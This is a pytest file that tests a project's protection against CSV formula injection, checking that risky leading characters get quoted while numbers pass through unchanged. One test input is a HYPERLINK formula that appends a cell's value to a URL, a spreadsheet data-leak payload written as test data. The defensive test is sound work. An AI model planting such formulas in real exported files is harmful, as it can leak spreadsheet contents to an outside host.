"""Every CSV the project writes is safe to open in a spreadsheet (`storage.spreadsheet`)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from storage.spreadsheet import csv_text, safe_cell, safe_frame, write_csv
from tests.test_requirements import STANDALONE

ROOT = Path(__file__).resolve().parents[2]
WRITER = re.compile(r"\.to_csv\(|\bcsv\.writer\(|\bDictWriter\(|from csv import[^\n]*\bwriter\b")


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["apple", "", " =1", "'=1", "1-2", -1.5, -3, np.int64(-7), None, True])
def test_numbers_and_harmless_text_are_kept_as_they_are(value):
    assert safe_cell(value) is value


def test_a_csv_keeps_numbers_numbers_and_quotes_formulas_in_cells_and_labels():
    frame = pd.DataFrame(
        {
            "note": ["=1+1", "fine", None, "\r=2"],
            "score": [-0.25, 1.0, -3.5, 2.0],
            "count": pd.array([-1, None, 3, 4], dtype="Int64"),
            "@label": pd.array(["-x", "y", None, "z"], dtype="string"),
        },
        index=pd.Index(["-a", "b", "c", "d"], name="concept"),
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert rows == [
        ["concept", "note", "score", "count", "'@label"],
        ["'-a", "'=1+1", "-0.25", "-1", "'-x"],
        ["b", "fine", "1.0", "", "y"],
        ["c", "", "-3.5", "3", ""],
        ["d", "'\r=2", "2.0", "4", "z"],
    ]
    assert frame.loc["-a", "note"] == "=1+1"  # the caller's frame is not changed


def test_write_csv_reads_back_with_the_same_numbers(tmp_path):
    frame = pd.DataFrame({"model": ["+m", "n"], "delta": [-1.5, 2.25]})
    write_csv(frame, tmp_path / "t.csv", index=False)
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["model"].tolist() == ["'+m", "n"] and back["delta"].tolist() == [-1.5, 2.25]


def test_multi_index_labels_are_made_safe():
    frame = pd.DataFrame({("=a", "b"): [1]}, index=pd.MultiIndex.from_tuples([("-x", 1)]))
    safe = safe_frame(frame)
    assert list(safe.columns) == [("'=a", "b")] and list(safe.index) == [("'-x", 1)]


def test_no_csv_is_written_outside_storage_spreadsheet():
    found = []
    for folder in ("annotation", "app", "bench", "evaluation", "storage"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            if path == ROOT / "storage" / "spreadsheet.py" or any(f in path.parents for f in STANDALONE):
                continue  # a standalone tool (its own environment) cannot import storage
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if WRITER.search(line):
                    found.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert found == [], "write CSVs with storage.spreadsheet.write_csv / csv_text:\n" + "\n".join(found)
